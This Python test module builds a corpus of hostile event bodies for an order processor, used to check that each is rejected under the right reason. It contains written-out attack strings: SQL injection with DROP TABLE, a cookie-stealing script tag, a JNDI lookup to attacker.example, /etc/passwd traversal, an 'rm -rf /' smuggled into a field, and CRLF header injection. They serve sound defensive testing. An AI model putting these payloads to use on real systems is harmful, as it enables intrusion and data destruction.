"""Hostile input for the order processor, as data.

:func:`rejection_cases` are bodies the processor must reject (never retry), each with the
``rejectionReason`` it must park them under. :data:`HOSTILE_REASONS` look dangerous but keep
the contract (free text may hold any character but controls, bidirectional embeddings, overrides
and isolates, and line separators): a ``PaymentFailed`` with one of them must be applied, and
stored verbatim (the sequences of event-id reuse are in :mod:`tests.reliability.reuse_corpus`).
Every body is deterministic: fixed ids, a fixed clock.
"""

from __future__ import annotations

import copy
import json
from collections.abc import Callable
from dataclasses import dataclass
from decimal import Decimal
from typing import Any

from orders_shared.events import (
    NewEvent,
    OrderStatus,
    dumps,
    envelope_for,
    order_created,
    order_status_changed,
    payment_failed,
    payment_processed,
)

ORDER_ID = "7d0c5e2a-9b1f-4c3d-8e6f-0a1b2c3d4e5f"
EVENT_ID = "1f2e3d4c-5b6a-4978-8695-a4b3c2d1e0f9"
CORRELATION_ID = "c0ffee00-1234-4abc-9def-0123456789ab"
ENVELOPE_ID = "e7e7e7e7-0000-4000-8000-000000000001"
NOW = "2025-06-01T12:00:00.000Z"
MALFORMED, SCHEMA, UNKNOWN = "MalformedJson", "SchemaViolation", "UnknownEventType"
OVER_256_KB = 256 * 1024 + 1

SQL = "1' OR '1'='1'; DROP TABLE Orders; --"
SCRIPT = "<script>alert(document.cookie)</script>"
JNDI = "${jndi:ldap://attacker.example/a}"
TRAVERSAL = "../../../../etc/passwd"


@dataclass(frozen=True)
class HostileCase:
    """A body that can never be processed, and the reason it must be parked under."""

    name: str
    body: str
    reason: str


def _meta() -> dict[str, Any]:
    return {"event_id": EVENT_ID, "correlation_id": CORRELATION_ID, "clock": lambda: NOW}


def _envelope(event: NewEvent | None = None) -> dict[str, Any]:
    event = event or order_created(ORDER_ID, "cust-42", Decimal("129.99"), **_meta())
    envelope = envelope_for(event)
    envelope["id"] = ENVELOPE_ID
    envelope["time"] = "2025-06-01T12:00:00Z"
    return envelope


def _mutated(change: Callable[[dict[str, Any]], None], event: NewEvent | None = None) -> str:
    envelope = copy.deepcopy(_envelope(event))
    change(envelope)
    return dumps(envelope)


def _set(path: str, value: Any) -> Callable[[dict[str, Any]], None]:
    def change(envelope: dict[str, Any]) -> None:
        *parents, last = path.split("/")
        node = envelope
        for name in parents:
            node = node[name]
        node[last] = value

    return change


def _drop(path: str) -> Callable[[dict[str, Any]], None]:
    def change(envelope: dict[str, Any]) -> None:
        *parents, last = path.split("/")
        node = envelope
        for name in parents:
            node = node[name]
        del node[last]

    return change


@dataclass(frozen=True)
class ToleratedCase:
    """A body carrying fields its version does not know: applied, the fields kept verbatim, never used."""

    name: str
    body: str
    extra: dict[str, Any]  # the unknown fields, as they must be stored


def tolerated_cases() -> list[ToleratedCase]:
    """Unknown fields in a released version (a producer that added one, or a mass-assignment attempt)."""
    return [
        ToleratedCase("mass-assignment-is-admin", _mutated(_set("detail/isAdmin", True)), {"isAdmin": True}),
        ToleratedCase(
            "metadata-trace-id", _mutated(_set("detail/metadata/traceId", "abc-123")), {"traceId": "abc-123"}
        ),
    ]


def _valid_body() -> str:
    return dumps(_envelope())


def _with_amount_literal(literal: str) -> str:
    # The literal goes in as text: json.dumps cannot write NaN-free oddities such as 1e400.
    return _valid_body().replace('"amount":129.99', f'"amount":{literal}')


def _payment_failed(reason: str) -> NewEvent:
    return payment_failed(ORDER_ID, reason, **_meta())


def _deep(levels: int) -> str:
    return "[" * levels + "]" * levels


def rejection_cases() -> list[HostileCase]:
    """Bodies the processor must reject, with the reason it must give."""
    valid = _valid_body()
    status_changed = order_status_changed(ORDER_ID, OrderStatus.COMPLETED, **_meta())
    paid = payment_processed(ORDER_ID, Decimal(10), payment_id=EVENT_ID, **_meta())
    oversized = _mutated(_set("detail/customerId", "c" * OVER_256_KB))
    cases = [
        # Not strict JSON.
        HostileCase("not-json", "this is not json", MALFORMED),
        HostileCase("empty-body", "", MALFORMED),
        HostileCase("truncated-json", valid[: len(valid) // 2], MALFORMED),
        HostileCase("trailing-garbage", valid + "}", MALFORMED),
        HostileCase("single-quoted", valid.replace('"', "'"), MALFORMED),
        HostileCase("json-with-comment", "/* hi */" + valid, MALFORMED),
        HostileCase("byte-order-mark", "\ufeff" + valid, MALFORMED),
        HostileCase("amount-nan-literal", _with_amount_literal("NaN"), MALFORMED),
        HostileCase("amount-infinity-literal", _with_amount_literal("Infinity"), MALFORMED),
        HostileCase("amount-minus-infinity-literal", _with_amount_literal("-Infinity"), MALFORMED),
        HostileCase("amount-5001-digit-integer", _with_amount_literal("1" + "0" * 5000), MALFORMED),
        HostileCase("duplicate-top-level-key", valid.replace('"source":', '"source":"x","source":', 1), MALFORMED),
        HostileCase(
            "duplicate-order-id", valid.replace('"orderId":', f'"orderId":"{EVENT_ID}","orderId":', 1), MALFORMED
        ),
        HostileCase("nesting-100000-deep", '{"detail":' + _deep(100_000) + "}", MALFORMED),
        HostileCase("raw-control-character", valid.replace("cust-42", "cust\x00-42"), MALFORMED),
        HostileCase("oversized-body", oversized, MALFORMED),
        # JSON, but not an envelope of the contract.
        HostileCase("json-array", "[]", SCHEMA),
        HostileCase("json-string", '"OrderCreated"', SCHEMA),
        HostileCase("json-number", "42", SCHEMA),
        HostileCase("json-null", "null", SCHEMA),
        HostileCase("envelope-version-1.0", _mutated(_set("version", "1.0")), SCHEMA),
        HostileCase("missing-id", _mutated(_drop("id")), SCHEMA),
        HostileCase("missing-detail", _mutated(_drop("detail")), SCHEMA),
        HostileCase("missing-detail-type", _mutated(_drop("detail-type")), SCHEMA),
        HostileCase("detail-type-not-a-string", _mutated(_set("detail-type", 42)), SCHEMA),
        HostileCase("detail-is-a-string", _mutated(_set("detail", "{}")), SCHEMA),
        HostileCase("envelope-id-not-uuid", _mutated(_set("id", "not-a-uuid")), SCHEMA),
        HostileCase("account-with-letters", _mutated(_set("account", "12345678901a")), SCHEMA),
        HostileCase("region-injection", _mutated(_set("region", "us-east-1; rm -rf /")), SCHEMA),
        HostileCase("resources-not-a-list", _mutated(_set("resources", "arn:aws:x")), SCHEMA),
        HostileCase("time-not-a-timestamp", _mutated(_set("time", "yesterday")), SCHEMA),
        HostileCase("time-is-a-number", _mutated(_set("time", 1748779200)), SCHEMA),
        HostileCase(
            "occurred-at-impossible-date", _mutated(_set("detail/metadata/occurredAt", "2025-13-45T99:99:99Z")), SCHEMA
        ),
        HostileCase("missing-order-id", _mutated(_drop("detail/orderId")), SCHEMA),
        HostileCase("order-id-123", _mutated(_set("detail/orderId", "123")), SCHEMA),
        HostileCase("order-id-sql-injection", _mutated(_set("detail/orderId", SQL)), SCHEMA),
        HostileCase("order-id-path-traversal", _mutated(_set("detail/orderId", TRAVERSAL)), SCHEMA),
        HostileCase("order-id-number", _mutated(_set("detail/orderId", 12345)), SCHEMA),
        HostileCase("event-id-not-uuid", _mutated(_set("detail/metadata/eventId", "evt-1")), SCHEMA),
        HostileCase("schema-version-2.0", _mutated(_set("detail/metadata/schemaVersion", "2.0")), SCHEMA),
        HostileCase("customer-id-sql-injection", _mutated(_set("detail/customerId", SQL)), SCHEMA),
        HostileCase("customer-id-script-tag", _mutated(_set("detail/customerId", SCRIPT)), SCHEMA),
        HostileCase("customer-id-jndi-lookup", _mutated(_set("detail/customerId", JNDI)), SCHEMA),
        HostileCase("customer-id-path-traversal", _mutated(_set("detail/customerId", TRAVERSAL)), SCHEMA),
        HostileCase("customer-id-escaped-lone-surrogate", valid.replace("cust-42", "cust-\\ud800"), MALFORMED),
        HostileCase("customer-id-long", _mutated(_set("detail/customerId", "c" * 5000)), SCHEMA),
        HostileCase("amount-negative", _with_amount_literal("-0.01"), SCHEMA),
        HostileCase("amount-1e400", _with_amount_literal("1e400"), SCHEMA),
        HostileCase("amount-over-maximum", _with_amount_literal("1000000000.01"), SCHEMA),
        HostileCase("amount-as-string", _mutated(_set("detail/amount", "129.99")), SCHEMA),
        HostileCase("amount-boolean", _mutated(_set("detail/amount", True)), SCHEMA),
        HostileCase("amount-null", _mutated(_set("detail/amount", None)), SCHEMA),
        HostileCase("created-with-status-completed", _mutated(_set("detail/status", "completed")), SCHEMA),
        HostileCase("extra-property-unbounded-name", _mutated(_set("detail/is admin!", True)), SCHEMA),
        HostileCase("extra-long-property-name", _mutated(_set("detail/" + "k" * 300, 1)), SCHEMA),
        HostileCase("detail-nested-500-deep", _mutated(_set("detail/nested", json.loads(_deep(500)))), SCHEMA),
        HostileCase("status-unknown", _mutated(_set("detail/status", "shipped"), status_changed), SCHEMA),
        HostileCase("payment-id-not-uuid", _mutated(_set("detail/paymentId", SQL), paid), SCHEMA),
        HostileCase("reason-crlf-injection", dumps(_envelope(_payment_failed("declined\r\nX-Admin: true"))), SCHEMA),
        HostileCase("reason-escaped-nul", dumps(_envelope(_payment_failed("declined\u0000"))), SCHEMA),
        HostileCase(
            "reason-escaped-lone-surrogate",
            dumps(_envelope(_payment_failed("declined"))).replace("declined", "declined \\udfff"),
            MALFORMED,
        ),
        HostileCase("reason-too-long", dumps(_envelope(_payment_failed("r" * 257))), SCHEMA),
        HostileCase("reason-empty", dumps(_envelope(_payment_failed(""))), SCHEMA),
        # Digits of other scripts where the contract means 0-9 (Python's \d takes them).
        HostileCase(
            "time-arabic-indic-digits", _mutated(_set("time", "\u0662\u0660\u0662\u0665-06-01T12:00:00Z")), SCHEMA
        ),
        HostileCase(
            "occurred-at-arabic-indic-digits",
            _mutated(_set("detail/metadata/occurredAt", "\u0662\u0660\u0662\u0665-01-01T00:00:00Z")),
            SCHEMA,
        ),
        HostileCase(
            "occurred-at-fullwidth-digits",
            _mutated(_set("detail/metadata/occurredAt", "2025-06-01T12:00:00.\uff10\uff10\uff10Z")),
            SCHEMA,
        ),
        HostileCase(
            "order-id-arabic-indic-digit", _mutated(_set("detail/orderId", ORDER_ID.replace("7", "\u0667"))), SCHEMA
        ),
        # Control (C0, C1) and bidirectional formatting characters in identifiers and free text.
        HostileCase("order-id-rlo", _mutated(_set("detail/orderId", "\u202e" + ORDER_ID)), SCHEMA),
        HostileCase("customer-id-rlo", _mutated(_set("detail/customerId", "cust\u202e24-")), SCHEMA),
        HostileCase("customer-id-lri", _mutated(_set("detail/customerId", "cust-42\u2066")), SCHEMA),
        HostileCase("customer-id-rlm", _mutated(_set("detail/customerId", "cust-\u200f42")), SCHEMA),
        HostileCase("customer-id-c1-next-line", _mutated(_set("detail/customerId", "cust-42\x85")), SCHEMA),
        HostileCase("event-id-c1-csi", _mutated(_set("detail/metadata/eventId", EVENT_ID + "\x9b")), SCHEMA),
        HostileCase(
            "correlation-id-pdi", _mutated(_set("detail/metadata/correlationId", CORRELATION_ID + "\u2069")), SCHEMA
        ),
        HostileCase("payment-id-lre", _mutated(_set("detail/paymentId", "\u202a" + ORDER_ID), paid), SCHEMA),
        HostileCase("reason-c1-next-line", dumps(_envelope(_payment_failed("declined\x85X-Admin: true"))), SCHEMA),
        HostileCase("reason-c1-csi", dumps(_envelope(_payment_failed("declined \x9b31m red"))), SCHEMA),
        HostileCase("reason-rlo", dumps(_envelope(_payment_failed("refund \u202e0001$ \u202c"))), SCHEMA),
        HostileCase("reason-rli", dumps(_envelope(_payment_failed("declined \u2067by bank\u2069"))), SCHEMA),
        HostileCase("reason-line-separator", dumps(_envelope(_payment_failed("declined\u2028X-Admin: true"))), SCHEMA),
        HostileCase(
            "status-reason-lro",
            _mutated(_set("detail/reason", "shipped \u202dyadot"), status_changed),
            SCHEMA,
        ),
        HostileCase("resource-rlo", _mutated(_set("resources", ["arn:aws:events:us-east-1:1:rule/\u202eabc"])), SCHEMA),
        HostileCase("replay-name-nul", _mutated(_set("replay-name", "replay\u0000")), SCHEMA),
        HostileCase("replay-name-rlo", _mutated(_set("replay-name", "replay\u202e")), SCHEMA),
        # An envelope, but not an event this pipeline handles.
        HostileCase("detail-type-unknown", _mutated(_set("detail-type", "OrderShipped")), UNKNOWN),
        HostileCase("detail-type-empty", _mutated(_set("detail-type", "")), UNKNOWN),
        HostileCase("detail-type-10000-chars", _mutated(_set("detail-type", "X" * 10_000)), UNKNOWN),
        HostileCase("detail-type-with-nul", _mutated(_set("detail-type", "Order\u0000Created")), UNKNOWN),
        HostileCase("source-unknown", _mutated(_set("source", "evil-service")), UNKNOWN),
        HostileCase("source-jndi-lookup", _mutated(_set("source", JNDI)), UNKNOWN),
        HostileCase("source-does-not-match-detail-type", _mutated(_set("source", "payment-service")), UNKNOWN),
    ]
    names = [case.name for case in cases]
    assert len(names) == len(set(names)), "corpus case names must be unique"
    return cases


def unstorable_case() -> HostileCase:
    """A body holding a lone surrogate: no UTF-8 exists for it, so SQS can neither deliver nor store it.

    Only a direct invocation can hand it to the function. It must be rejected without failing the
    batch; parking it verbatim is impossible (SQS answers ``InvalidMessageContents``).
    """
    return HostileCase("raw-lone-surrogate", _valid_body().replace("cust-42", "cust-\ud800"), MALFORMED)


HOSTILE_REASONS = [
    ("reason-sql-injection", SQL),
    ("reason-script-tag", SCRIPT),
    ("reason-jndi-lookup", JNDI),
    ("reason-path-traversal", TRAVERSAL),
    ("reason-format-string", "%s%s%s%n {0} {{7*7}} ${7*7}"),
    ("reason-unicode", "Zahlung abgelehnt \u2717 \u652f\u4ed8\u5931\u8d25 \U0001f6ab"),
    # Right-to-left text needs directional marks (LRM, RLM, ALM), which reorder nothing: kept.
    (
        "reason-right-to-left-with-marks",
        "\u0631\u0641\u0636 \u0627\u0644\u0628\u0646\u0643\u200f (card 4242)\u200e \u061c.",
    ),
]
"""Free-text reasons that look like attacks but keep the contract: applied, stored verbatim."""
